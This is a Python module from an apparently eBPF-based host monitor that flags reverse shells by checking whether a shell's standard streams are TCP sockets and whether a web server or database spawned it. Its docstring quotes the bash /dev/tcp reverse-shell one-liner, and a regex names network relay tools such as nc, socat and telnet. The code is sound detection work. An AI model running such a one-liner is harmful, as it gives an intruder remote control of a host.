"""Outbound behaviour, loader side: `raw_socket` events, and the evidence
signals attached to `connection` events, read from /proc at event time.

Signals (the event's "signals" object: name -> one line of evidence):
  stdio_socket    fd 0 or 1 of the connecting process is a TCP socket (matched
                  by inode in /proc/PID/net/tcp{,6}, the process's own network
                  namespace): a shell or interpreter talking to the network
                  through its standard streams is a reverse shell, whatever
                  the port.
  parent_service  the parent is a web server or database and the process is
                  not one of its workers (a program it spawned).

`bash -i >& /dev/tcp/H/443 0>&1` connects first and moves the socket onto
fd 0/1 a moment later, so a connection by a shell or interpreter whose
standard streams are not (yet) a socket is held up to HOLD_S and re-read
until they are, the process is gone, or the time is up; then it is emitted
either way (holding changes when a connection is reported, never whether).
A shell that waits longer before redirecting is caught by the kernel
instead: a dup()/dup2()/dup3() onto fd 0 or 1 by a process that connected
out (or a child of one) is reported (bpf/outbound.bpf.c), and if fd 0/1 is
then a TCP socket, that connection is emitted again with "mode": "stdio"
and its signals (once per socket).
"""

from __future__ import annotations

import functools
import os
import re
import time
from collections import OrderedDict
from typing import Callable

from .egress import EgressTracker
from .procinfo import read_comm, read_ppid
from .udp import UdpTracker
from .stdio import describe, stdio_tcp

# Shells, interpreters and relays that have no business with a network socket
# as stdin/stdout (compared with comm and the exe's basename).
SHELLS = re.compile(r"^(?:ba|da|z|k|mk|c|tc|fi|a)?sh$|^busybox$|^python[0-9.]*$|^perl[0-9.]*$|"
                    r"^ruby[0-9.]*$|^php[0-9.]*(?:-cli)?$|^lua[0-9.]*$|^node(?:js)?$|^tclsh[0-9.]*$|"
                    r"^n(?:et)?cat(?:\.openbsd|\.traditional)?$|^nc(?:\.openbsd|\.traditional)?$|"
                    r"^socat$|^telnet$|^awk$|^gawk$|^mawk$")
SERVICES = {"nginx", "apache2", "httpd", "lighttpd", "caddy", "php-fpm", "php-fpm8.2", "uwsgi",
            "gunicorn", "tomcat", "java", "mysqld", "mariadbd", "postgres", "postmaster",
            "redis-server", "mongod"}
HOLD_S = 1.0
MAX_HELD = 256   # beyond this, shells' connections are emitted at once (counted)
SIGNAL_CACHE_S = 0.5


def usr_merged(path: str) -> str:
    """/bin/ping -> /usr/bin/ping where /bin is the root-owned usr-merge link
    (what /proc/PID/exe would have said). Other paths are left as given."""
    top, sep, rest = path.lstrip("/").partition("/")
    if path.startswith("/") and sep and top in ("bin", "sbin", "lib", "lib64") \
            and os.path.realpath(f"/{top}") == f"/usr/{top}":
        return f"/usr/{top}/{rest}"
    return path


@functools.lru_cache(maxsize=4096)   # asked per connection event; a pure function of two names
def is_shell(comm: str | None, exe: str | None) -> bool:
    names = {(comm or "").lower(), os.path.basename((exe or "").replace(" (deleted)", "")).lower()}
    return any(n and SHELLS.match(n) for n in names)


def _comm(pid: int) -> str | None:
    """A process's name as an event field: lossless, and decoded as the
    kernel's is (kernel/outbound.py), so that the two compare equal
    (a parent's name against its child's)."""
    return read_comm(pid, "surrogateescape")


def parent_service(ppid: int | None, comm: str | None) -> str | None:
    if not ppid:
        return None
    parent = _comm(ppid)
    if parent is None or parent == comm:
        return None  # a worker of the service itself is the service
    base = re.sub(r"[0-9.]+$", "", parent)
    if parent in SERVICES or base in SERVICES or parent.startswith("php-fpm"):
        return f"parent {parent} (pid {ppid})"
    return None


def signals_for(fields: dict, stdio=None) -> dict[str, str]:
    """The signals of a connection's process; stdio: stdio_tcp(pid) if already read."""
    out = {}
    stdio = stdio or stdio_tcp(fields["pid"])
    if stdio:
        out["stdio_socket"] = describe(*stdio)
    parent = parent_service(fields.get("ppid"), fields.get("comm"))
    if parent:
        out["parent_service"] = parent
    return out


class Outbound:
    """Annotates connection events with signals (holding shells' briefly) and
    turns raw-socket sightings into events. emit(type, **fields) writes one."""

    def __init__(self, procs, emit: Callable[..., None], hold_s: float = HOLD_S, raw=None,
                 egress_interval: float = 1.0):
        self.procs = procs
        self.emit = emit
        self.hold_s = hold_s
        self.raw = raw              # the OutboundMonitor, for its egress counters
        self.counts = {"raw_sockets": 0, "signalled": 0, "held": 0, "hold_overflow": 0, "lost": 0,
                       "redirected": 0}
        self.egress = EgressTracker()
        self.udp = UdpTracker(self.counts)
        if raw is not None:
            raw.on_udp = self.udp_flow
        self.egress_interval = egress_interval
        self._egress_at = time.monotonic()
        self._udp_lost = 0
        self._held: OrderedDict[int, tuple[float, dict]] = OrderedDict()
        self._seq = 0
        self._signal_cache: OrderedDict[tuple, tuple] = OrderedDict()
        self._reported: OrderedDict[str, None] = OrderedDict()  # socket inodes reported with the signal

    def raw_socket(self, raw) -> None:
        ident = self._identity(raw.pid, raw.uid, raw.comm, raw.exec_path, raw.ts_ns)
        self.counts["raw_sockets"] += 1
        self.emit("raw_socket", pid=raw.pid, tid=raw.tid, ppid=ident["ppid"], uid=raw.uid,
                  comm=raw.comm, exe=ident["exe"], exe_source=ident["exe_source"],
                  exec_path=raw.exec_path, cmdline=ident["cmdline"], proc_error=ident["proc_error"],
                  family=raw.family, sock_type=raw.sock_type,
                  protocol=raw.protocol, protocol_name=raw.protocol_name, fd=raw.fd)
        if self.raw is not None and self.raw.egress_link is not None:
            self.egress.remember({**ident, "fd": raw.fd})

    def _identity(self, pid: int, uid: int, comm: str, exec_path: str | None,
                  at_ns: int | None = None) -> dict:
        """Who a kernel sighting's process is, from /proc, else the path it was started with."""
        info = self.procs.get(pid, at_ns, comm)
        exe, source = info["exe"], "proc"
        if exe is None and exec_path:
            # Gone already (ping -c1 lives a millisecond): the path the kernel
            # saw at execve is the best identity left.
            exe, source = usr_merged(exec_path), "exec"
        elif exe is None:
            source = None
        return {"pid": pid, "ppid": info["ppid"], "uid": uid, "comm": comm, "exe": exe,
                "exe_source": source, "cmdline": info["cmdline"], "proc_error": info["proc_error"]}

    def udp_flow(self, flow) -> None:
        """The first datagram of a process to a UDP destination port (kernel/outbound.UdpFlow)."""
        self.udp.first(flow.pid, self._identity(flow.pid, flow.uid, flow.comm, flow.exec_path, flow.ts_ns))

    def connection(self, fields: dict) -> None:
        """Emit a connection event now, or hold it (a shell whose stdio is not a socket yet)."""
        if self._annotate(fields, cached=True) or not is_shell(fields.get("comm"), fields.get("exe")) \
                or fields.get("proc_error"):
            self._emit_connection(fields)
            return
        if len(self._held) >= MAX_HELD:
            self.counts["hold_overflow"] += 1
            self._emit_connection(fields)
            return
        self.counts["held"] += 1
        self._seq += 1
        self._held[self._seq] = (time.monotonic() + self.hold_s, fields)

    def _annotate(self, fields: dict, cached: bool = False, since: float | None = None) -> bool:
        """Attach the signals; True when stdio is a TCP socket. cached: reuse
        a reading of this pid younger than SIGNAL_CACHE_S (a connect scanner
        would otherwise cost three /proc reads per connection); since: reuse
        one taken from that time on (one reading per process per poll)."""
        now, pid = time.monotonic(), fields["pid"]
        hit = self._signal_cache.get((pid, fields.get("ppid"))) if cached or since else None
        if hit is not None and (now - hit[0] < SIGNAL_CACHE_S if cached else hit[0] >= since):
            stdio, found = hit[1], dict(hit[2])
        else:
            stdio = stdio_tcp(pid)
            found = signals_for(fields, stdio)
            self._signal_cache[(pid, fields.get("ppid"))] = (now, stdio, found)
            self._signal_cache.move_to_end((pid, fields.get("ppid")))
            while len(self._signal_cache) > MAX_HELD * 16:
                self._signal_cache.popitem(last=False)
        if found:
            fields["signals"] = found
        if stdio:
            self._note_reported(stdio[1].inode)
        return stdio is not None

    def _note_reported(self, inode: str) -> bool:
        """Remember a socket as reported with its signal; False if it was.
        By socket, not process: the shell's children inherit it as their
        stdin and dup their own pipes onto fd 1 ($(...), pipelines)."""
        if inode in self._reported:
            return False
        self._reported[inode] = None
        while len(self._reported) > MAX_HELD * 16:
            self._reported.popitem(last=False)
        return True

    def stdio_dup(self, dup) -> None:
        """A process that connected out put something on fd 0 or 1 (however
        long after connecting): if that is a TCP socket now, the connection is
        reported again, "mode": "stdio", with its signals."""
        ppid = read_ppid(dup.pid)   # read first: a socket found below was this process's
        hit = stdio_tcp(dup.pid) if ppid is not None else None
        if hit is None:
            return   # not a socket, or gone: whoever put it there reports its own dup
        pid, tid, comm = dup.pid, dup.tid, dup.comm
        # Name the process that put the socket there, not a child that
        # inherited it and whose own dup happened to be read first (events of
        # different CPUs come in any order): go up while the parent has the
        # same socket on its fd 0/1. Each ppid is read from /proc as the
        # climb goes, never from the cache: pids are reused.
        for _ in range(8):
            up = stdio_tcp(ppid) if ppid > 1 else None
            if up is None or up[1].inode != hit[1].inode:
                break
            grand = read_ppid(ppid)
            if grand is None:
                break
            pid = tid = ppid
            comm, ppid = _comm(pid) or comm, grand
        info = self.procs.get(pid)
        if not self._note_reported(hit[1].inode):
            return
        sock = hit[1]
        fields = dict(pid=pid, tid=tid, ppid=ppid, uid=dup.uid, comm=comm,
                      exe=info["exe"], cmdline=info["cmdline"], proc_error=info["proc_error"],
                      family=sock.family, saddr=sock.saddr, sport=sock.sport, daddr=sock.daddr,
                      dport=sock.dport, mode="stdio")
        fields["signals"] = signals_for(fields, hit)
        self.counts["redirected"] += 1
        self._emit_connection(fields)

    def _emit_connection(self, fields: dict) -> None:
        if "signals" in fields:
            self.counts["signalled"] += 1
        self.emit("connection", **fields)

    def _udp_window(self, window_s: float) -> None:
        rows = self.raw.read_udp()
        if self.raw.udp_lost > self._udp_lost:
            n, self._udp_lost = self.raw.udp_lost - self._udp_lost, self.raw.udp_lost
            self.emit("lost", count=n, total=self._udp_lost, source="udp_events")
        self.udp.forget_reused({r.pid for r in rows})
        lookup = lambda pid: self._identity(pid, None, _comm(pid), None)  # noqa: E731
        for body in self.udp.window(rows, window_s, lookup):
            self.emit("udp", **body)

    def lost(self, n: int, warn: Callable[[str], None]) -> None:
        self.counts["lost"] += n
        warn(f"kernel buffer overflow: {n} raw-socket events lost ({self.counts['lost']} in all)")
        self.emit("lost", count=n, total=self.counts["lost"], source="raw_events")

    def poll(self, flush: bool = False) -> None:
        """Re-read held connections; emit the settled ones (all with flush);
        emit egress windows when one is due (and the last one with flush)."""
        now = time.monotonic()
        if self.raw is not None and (flush or now - self._egress_at >= self.egress_interval):
            window_s = now - self._egress_at
            if self.raw.egress_link is not None:
                for body in self.egress.window(self.raw.read_egress(), window_s):
                    self.emit("egress", **body)
            if self.raw.udp_links:
                self._udp_window(window_s)
            self._egress_at = now
        if not self._held:
            return
        alive: dict[int, bool] = {}   # a Python scanner's held connections: one look per pid
        if not flush and not any(self._settled(f, now, alive) for f in
                                 {(f["pid"], f.get("ppid")): f for _, f in self._held.values()}.values()):
            # No held process's stdio became a socket nor did one end: only
            # the connections whose hold is up go, oldest first (this runs
            # every loop turn; a Python connect loop keeps MAX_HELD held).
            while self._held:
                key, (until, fields) = next(iter(self._held.items()))
                if now < until:
                    return
                del self._held[key]
                self._annotate(fields, since=now)
                self._emit_connection(fields)
            return
        for key, (until, fields) in list(self._held.items()):
            if self._settled(fields, now, alive) or now >= until or flush:
                del self._held[key]
                self._emit_connection(fields)

    def _settled(self, fields: dict, now: float, alive: dict[int, bool]) -> bool:
        """A held connection's process put a socket on its stdio, or is gone
        (alive: one look per pid per poll)."""
        pid = fields["pid"]
        if pid not in alive:
            alive[pid] = os.path.exists(f"/proc/{pid}")
        return self._annotate(fields, since=now) or not alive[pid]
